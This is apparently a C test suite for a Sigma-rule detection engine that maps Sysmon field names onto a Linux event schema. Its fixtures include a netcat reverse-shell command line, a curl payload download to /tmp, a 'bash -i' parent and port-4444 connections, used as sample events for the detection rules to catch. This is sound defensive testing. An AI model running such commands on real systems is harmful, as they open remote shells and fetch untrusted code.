/*
 * test_detect_mapping.c — rules on Yamori's event schema: which events a
 * log source selects (process_creation, file_event and friends,
 * network_connection, logon services, product-only rules), how the
 * Sysmon-for-Linux field names of SigmaHQ's rules read Yamori's fields
 * (docs/rules.md), the evidence a match reports, the warnings for rules no
 * Yamori event can match, and the ways an event gets its fields (by name,
 * by id, JSON, lookup callback). Also the flat schema, where none of that
 * applies.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "detect/detect.h"

#include "detect_t.h"

#define PROC_EVENT                                                                    \
    "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","                   \
    "\"FolderPath\":\"/usr/bin/curl\",\"FileName\":\"curl\","                         \
    "\"ProcessCommandLine\":\"curl -s http://x.example/p -o /tmp/p\","                \
    "\"ProcessCurrentDirectory\":\"/tmp\",\"AccountName\":\"bob\",\"LogonId\":\"7\","  \
    "\"ProcessId\":\"4242\",\"SHA256\":\"abcdef0123\","                               \
    "\"InitiatingProcessFolderPath\":\"/usr/bin/bash\","                              \
    "\"InitiatingProcessCommandLine\":\"bash -i\",\"InitiatingProcessId\":\"4000\","   \
    "\"DeviceName\":\"web-01\"}"

static void process_creation_fields(void)
{
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    const char *rule =
        "title: Sysmon names\n"
        "logsource:\n    product: linux\n    category: process_creation\n"
        "detection:\n"
        "    sel:\n"
        "        Image|endswith: '/curl'\n"
        "        CommandLine|contains: ' -o /tmp/'\n"
        "        ParentImage: '/usr/bin/bash'\n"
        "        ParentCommandLine: 'bash -i'\n"
        "        User: bob\n"
        "        CurrentDirectory: /tmp\n"
        "        LogonId: 7\n"
        "        ProcessId: 4242\n"
        "        ParentProcessId: 4000\n"
        "        OriginalFileName: curl\n"
        "        Hashes|contains: 'SHA256=ABCDEF0123'\n"
        "        Computer: web-01\n"
        "    condition: sel\n";
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rule, &dg, NULL);
    CHECK(eng);
    CHECK_MSG(dg.errors == 0 && dg.warnings == 0, "%d errors, %d warnings: %s", dg.errors,
              dg.warnings, dg.n ? dg.d[0].message : "");
    CHECK_INT(t_match(eng, NULL, PROC_EVENT, &h), ==, 1);
    CHECK_INT(h.nev_total[0], ==, 12);   /* one per field condition */
    /* evidence names the rule's field and the Yamori field it read */
    bool saw_image = false, saw_cmd = false;
    for (int k = 0; k < h.nev[0]; k++) {
        if (strcmp(h.ev_field[0][k], "Image|endswith") == 0) {
            CHECK_STR(h.ev_event_field[0][k], "FolderPath");
            CHECK_STR(h.ev_value[0][k], "/usr/bin/curl");
            CHECK_STR(h.ev_pattern[0][k], "/curl");
            saw_image = true;
        }
        if (strcmp(h.ev_field[0][k], "CommandLine|contains") == 0) {
            CHECK_STR(h.ev_event_field[0][k], "ProcessCommandLine");
            saw_cmd = true;
        }
    }
    CHECK(saw_image && saw_cmd);
    /* a file event is not a process creation */
    memset(&h, 0, sizeof(h));
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"file\",\"ActionType\":\"FileCreated\","
                      "\"FolderPath\":\"/usr/bin/curl\"}", &h), ==, 0);
    detect_engine_free(eng);
}

/* One rule on one event: 1, 0, or < 0 when it did not load. */
static int yamori_matches(const char *logsource, const char *selection, const char *json)
{
    char yaml[4096];
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    snprintf(yaml, sizeof(yaml),
             "title: Y\nlogsource:\n%s\ndetection:\n    sel:\n%s\n    condition: sel\n",
             logsource, selection);
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, yaml, &dg, NULL);
    if (!eng || dg.errors) {
        detect_engine_free(eng);
        return -EINVAL;
    }
    int rc = t_match(eng, NULL, json, &h);
    detect_engine_free(eng);
    return rc;
}

#define FILE_EV(action, path)                                                         \
    "{\"EventType\":\"file\",\"ActionType\":\"" action "\",\"FolderPath\":\"" path  \
    "\",\"PreviousFolderPath\":\"/tmp/old\",\"InitiatingProcessFolderPath\":\"/usr/bin/cp\"," \
    "\"InitiatingProcessAccountName\":\"eve\"}"

static void file_log_sources(void)
{
    const char *ev_ls = "    product: linux\n    category: file_event";
    const char *sel = "        TargetFilename|startswith: '/etc/cron.d/'\n        Image: /usr/bin/cp";
    CHECK_INT(yamori_matches(ev_ls, sel, FILE_EV("FileCreated", "/etc/cron.d/x")), ==, 1);
    CHECK_INT(yamori_matches(ev_ls, sel, FILE_EV("FileModified", "/etc/cron.d/x")), ==, 1);
    CHECK_INT(yamori_matches(ev_ls, sel, FILE_EV("FileRenamed", "/etc/cron.d/x")), ==, 1);
    CHECK_INT(yamori_matches(ev_ls, sel, FILE_EV("FileDeleted", "/etc/cron.d/x")), ==, 0);
    CHECK_INT(yamori_matches(ev_ls, sel, FILE_EV("FileCreated", "/etc/x")), ==, 0);
    const char *del = "    product: linux\n    category: file_delete";
    CHECK_INT(yamori_matches(del, "        TargetFilename: /etc/cron.d/x",
                             FILE_EV("FileDeleted", "/etc/cron.d/x")), ==, 1);
    CHECK_INT(yamori_matches(del, "        TargetFilename: /etc/cron.d/x",
                             FILE_EV("FileCreated", "/etc/cron.d/x")), ==, 0);
    const char *ren = "    product: linux\n    category: file_rename";
    CHECK_INT(yamori_matches(ren, "        SourceFilename: /tmp/old\n        TargetFilename: /bin/x",
                             FILE_EV("FileRenamed", "/bin/x")), ==, 1);
    const char *chg = "    product: linux\n    category: file_change";
    CHECK_INT(yamori_matches(chg, "        TargetFilename: /bin/x",
                             FILE_EV("FilePermissionsChanged", "/bin/x")), ==, 1);
    CHECK_INT(yamori_matches(chg, "        TargetFilename: /bin/x",
                             FILE_EV("FileModified", "/bin/x")), ==, 1);
    CHECK_INT(yamori_matches(chg, "        TargetFilename: /bin/x",
                             FILE_EV("FileCreated", "/bin/x")), ==, 0);
    /* User in a file event is the acting process's user */
    CHECK_INT(yamori_matches(ev_ls, "        User: eve", FILE_EV("FileCreated", "/a")), ==, 1);
}

#define NET_EV(action, rip, rport)                                                    \
    "{\"EventType\":\"network\",\"ActionType\":\"" action "\",\"Protocol\":\"Tcp\","  \
    "\"LocalIP\":\"10.0.0.5\",\"LocalPort\":\"40000\",\"RemoteIP\":\"" rip "\","      \
    "\"RemotePort\":\"" rport "\",\"InitiatingProcessFolderPath\":\"/usr/bin/bash\"}"

static void network_connection(void)
{
    const char *ls = "    product: linux\n    category: network_connection";
    const char *sel = "        Image|endswith: /bash\n        Initiated: 'true'\n"
                      "        DestinationPort: 4444\n        Protocol: tcp\n"
                      "        DestinationIp|cidr: 203.0.113.0/24\n        SourceIp: 10.0.0.5";
    CHECK_INT(yamori_matches(ls, sel, NET_EV("ConnectionSuccess", "203.0.113.9", "4444")), ==, 1);
    CHECK_INT(yamori_matches(ls, sel, NET_EV("ConnectionFailed", "203.0.113.9", "4444")), ==, 1);
    CHECK_INT(yamori_matches(ls, sel, NET_EV("InboundConnectionAccepted", "203.0.113.9", "4444")),
              ==, 0);
    CHECK_INT(yamori_matches(ls, sel, NET_EV("ConnectionSuccess", "198.51.100.1", "4444")), ==, 0);
    CHECK_INT(yamori_matches(ls, "        Initiated: 'false'",
                             NET_EV("InboundConnectionAccepted", "1.2.3.4", "22")), ==, 1);
    CHECK_INT(yamori_matches(ls, "        DestinationIsIpv6: 'true'",
                             NET_EV("ConnectionSuccess", "2001:db8::1", "443")), ==, 1);
    CHECK_INT(yamori_matches(ls, "        DestinationIsIpv6: 'true'",
                             NET_EV("ConnectionSuccess", "192.0.2.1", "443")), ==, 0);
    /* listening sockets are not connections */
    CHECK_INT(yamori_matches(ls, "        Protocol: tcp",
                             NET_EV("ListeningConnectionCreated", "0.0.0.0", "0")), ==, 0);
}

#define LOGON_EV(proto, line)                                                         \
    "{\"EventType\":\"logon\",\"ActionType\":\"LogonFailed\",\"Protocol\":\"" proto   \
    "\",\"AccountName\":\"root\",\"RemoteIP\":\"198.51.100.7\",\"LogLine\":\"" line "\"}"

static void logon_services(void)
{
    const char *sshd = "    product: linux\n    service: sshd";
    const char *auth = "    product: linux\n    service: auth";
    const char *sudo = "    product: linux\n    service: sudo";
    const char *kw = "        User: root";
    CHECK_INT(yamori_matches(sshd, kw, LOGON_EV("ssh", "Failed password")), ==, 1);
    CHECK_INT(yamori_matches(sshd, kw, LOGON_EV("sudo", "x")), ==, 0);
    CHECK_INT(yamori_matches(sudo, kw, LOGON_EV("sudo", "x")), ==, 1);
    CHECK_INT(yamori_matches(auth, kw, LOGON_EV("sudo", "x")), ==, 1);
    CHECK_INT(yamori_matches(auth, kw, LOGON_EV("ssh", "x")), ==, 1);
    CHECK_INT(yamori_matches(auth, kw, LOGON_EV("telnet", "x")), ==, 1);
    CHECK_INT(yamori_matches(sshd, "        SourceIp|cidr: 198.51.100.0/24", LOGON_EV("ssh", "x")),
              ==, 1);
    /* keywords: searched in the log line */
    char yaml[1024];
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    snprintf(yaml, sizeof(yaml),
             "title: K\nlogsource:\n%s\ndetection:\n    keywords:\n        - 'Corrupted MAC'\n"
             "    condition: keywords\n", sshd);
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, yaml, &dg, NULL);
    CHECK(eng);
    CHECK_INT(t_match(eng, NULL, LOGON_EV("ssh", "sshd[1]: Corrupted MAC on input"), &h), ==, 1);
    CHECK_STR(h.ev_event_field[0][0], "LogLine");
    CHECK_INT(t_match(eng, NULL, LOGON_EV("ssh", "sshd[1]: Accepted"), &h), ==, 0);
    detect_engine_free(eng);
}

static void product_only_rules(void)
{
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    const char *rule = "title: Anywhere\nlogsource:\n    product: linux\n"
                       "detection:\n    keywords:\n        - '/etc/ld.so.preload'\n"
                       "    condition: keywords\n";
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rule, &dg, NULL);
    CHECK(eng);
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                      "\"ProcessCommandLine\":\"vi /etc/ld.so.preload\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL, FILE_EV("FileModified", "/etc/ld.so.preload"), &h), ==, 1);
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"process\",\"ActionType\":\"ProcessSnapshot\","
                      "\"ProcessCommandLine\":\"cat /etc/ld.so.preload\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"something\",\"ActionType\":\"Unheard\","
                      "\"ProcessCommandLine\":\"cat /etc/ld.so.preload\"}", &h), ==, 1);
    /* keywords look at text fields, not at any field */
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                      "\"SHA256\":\"/etc/ld.so.preload\"}", &h), ==, 0);
    detect_engine_free(eng);
    /* a snapshot is not a process creation */
    CHECK_INT(yamori_matches("    product: linux\n    category: process_creation",
                             "        CommandLine|contains: x",
                             "{\"EventType\":\"process\",\"ActionType\":\"ProcessSnapshot\","
                             "\"ProcessCommandLine\":\"x\"}"), ==, 0);
}

static void warnings_for_unmatchable_rules(void)
{
    struct t_diag dg;
    int loaded = 0;
    memset(&dg, 0, sizeof(dg));
    const char *rules =
        "title: Windows\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n    s:\n        Image|endswith: '\\cmd.exe'\n    condition: s\n"
        "---\n"
        "title: Auditd\nlogsource: {product: linux, service: auditd}\n"
        "detection:\n    s:\n        type: EXECVE\n    condition: s\n"
        "---\n"
        "title: Unknown field\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        IntegrityLevel: High\n    condition: s\n"
        "---\n"
        "title: Hostname\nlogsource: {product: linux, category: network_connection}\n"
        "detection:\n    s:\n        DestinationHostname|endswith: .ngrok.io\n    condition: s\n";
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rules, &dg, &loaded);
    CHECK(eng);
    CHECK_INT(loaded, ==, 4);
    CHECK_INT(dg.errors, ==, 0);
    int ls = 0, field = 0;
    for (int i = 0; i < dg.n; i++) {
        if (dg.d[i].kind == DETECT_DIAG_LOGSOURCE) {
            ls++;
            CHECK(strstr(dg.d[i].message, "not produced by Yamori"));
        }
        if (dg.d[i].kind == DETECT_DIAG_FIELD) {
            field++;
            CHECK(strstr(dg.d[i].message, "IntegrityLevel") ||
                  strstr(dg.d[i].message, "'RemoteUrl', which Yamori events do not carry yet"));
        }
    }
    CHECK_INT(ls, ==, 2);
    CHECK_INT(field, ==, 2);
    CHECK(!detect_engine_rule(eng, 0)->active);
    CHECK(!detect_engine_rule(eng, 1)->active);
    CHECK(detect_engine_rule(eng, 2)->active);
    struct t_hits h;
    memset(&h, 0, sizeof(h));
    CHECK_INT(t_match(eng, NULL,
                      "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                      "\"Image\":\"c:\\\\cmd.exe\",\"type\":\"EXECVE\"}", &h), ==, 0);
    detect_engine_free(eng);
}

static void yamori_names_and_mapping_precedence(void)
{
    const char *ls = "    product: linux\n    category: process_creation";
    /* Yamori's own names work as written */
    CHECK_INT(yamori_matches(ls, "        ProcessCommandLine|contains: '-o /tmp'", PROC_EVENT), ==, 1);
    /* a Sysmon name set on the event is not what the rule reads: the
     * mapping is (FolderPath) */
    CHECK_INT(yamori_matches(ls, "        Image: /usr/bin/wget",
                             "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                             "\"Image\":\"/usr/bin/wget\",\"FolderPath\":\"/usr/bin/curl\"}"), ==, 0);
    CHECK_INT(yamori_matches(ls, "        Image: /usr/bin/curl",
                             "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                             "\"Image\":\"/usr/bin/wget\",\"FolderPath\":\"/usr/bin/curl\"}"), ==, 1);
}

struct lookup_ctx {
    int calls;
};

static int lookup(void *ctx, const char *name, size_t nlen, const char **value, size_t *vlen)
{
    struct lookup_ctx *l = ctx;
    l->calls++;
    if (nlen == 18 && memcmp(name, "ProcessCommandLine", 18) == 0) {
        *value = "nc -e /bin/sh 1.2.3.4 4444";
        *vlen = strlen(*value);
        return 1;
    }
    return 0;
}

static void event_interfaces(void)
{
    char err[256];
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    const char *rule = "title: Netcat\nlogsource: {product: linux, category: process_creation}\n"
                       "detection:\n    s:\n        CommandLine|contains: 'nc -e '\n"
                       "    condition: s\n";
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rule, &dg, NULL);
    CHECK(eng);
    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
    CHECK(ev);
    int at = detect_field_id(eng, "ActionType", 10);
    int cmd = detect_field_id(eng, "ProcessCommandLine", 18);
    CHECK(at >= 0 && cmd >= 0);
    CHECK_INT(detect_field_id(eng, "NoSuchField", 11), ==, -ENOENT);
    /* by id */
    CHECK_INT(detect_event_set_id(ev, at, "ProcessCreated", 14), ==, 0);
    CHECK_INT(detect_event_set_id(ev, cmd, "nc -e /bin/sh x", 15), ==, 0);
    CHECK_INT(detect_match(ev, NULL, t_on_match, &h), ==, 1);
    CHECK_INT(detect_event_set_id(ev, 1 << 20, "x", 1), ==, -EINVAL);
    /* by name, and cleared in between */
    detect_event_clear(ev);
    CHECK_INT(detect_match(ev, NULL, NULL, NULL), ==, 0);
    CHECK_INT(detect_event_set(ev, "ActionType", 10, "ProcessCreated", 14), ==, 0);
    CHECK_INT(detect_event_set(ev, "ProcessCommandLine", 18, "ls", 2), ==, 0);
    CHECK_INT(detect_match(ev, NULL, NULL, NULL), ==, 0);
    /* a lookup callback supplies what was not set, once per event */
    detect_event_clear(ev);
    struct lookup_ctx lc = {0};
    detect_event_set(ev, "ActionType", 10, "ProcessCreated", 14);
    detect_event_set_lookup(ev, lookup, &lc);
    CHECK_INT(detect_match(ev, NULL, NULL, NULL), ==, 1);
    int calls = lc.calls;
    CHECK(calls >= 1);
    CHECK_INT(detect_match(ev, NULL, NULL, NULL), ==, 1);
    CHECK_INT(lc.calls, ==, calls);
    struct detect_event_stats es;
    detect_event_stats(ev, &es);
    CHECK_INT(es.events, ==, 5);
    CHECK_INT(es.matches, ==, 3);
    detect_event_free(ev);
    detect_engine_free(eng);
}

static void flat_schema_ignores_log_sources(void)
{
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    const char *rules =
        "title: Windows\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n    s:\n        Image|endswith: '\\cmd.exe'\n    condition: s\n";
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_FLAT, rules, &dg, NULL);
    CHECK(eng);
    CHECK_INT(dg.warnings, ==, 0);
    CHECK(detect_engine_rule(eng, 0)->active);
    CHECK_INT(t_match(eng, NULL, "{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"}", &h), ==, 1);
    CHECK_STR(h.ev_event_field[0][0], "Image");
    /* no mapping: FolderPath is just another field */
    CHECK_INT(t_match(eng, NULL, "{\"FolderPath\":\"x\\\\cmd.exe\"}", &h), ==, 0);
    detect_engine_free(eng);
}

int main(int argc, char **argv)
{
    static const struct check_case cases[] = {
        {"process_creation_fields", process_creation_fields},
        {"file_log_sources", file_log_sources},
        {"network_connection", network_connection},
        {"logon_services", logon_services},
        {"product_only_rules", product_only_rules},
        {"warnings_for_unmatchable_rules", warnings_for_unmatchable_rules},
        {"yamori_names_and_mapping_precedence", yamori_names_and_mapping_precedence},
        {"event_interfaces", event_interfaces},
        {"flat_schema_ignores_log_sources", flat_schema_ignores_log_sources},
        {NULL, NULL},
    };
    return check_main("detect_mapping", cases, argc, argv);
}
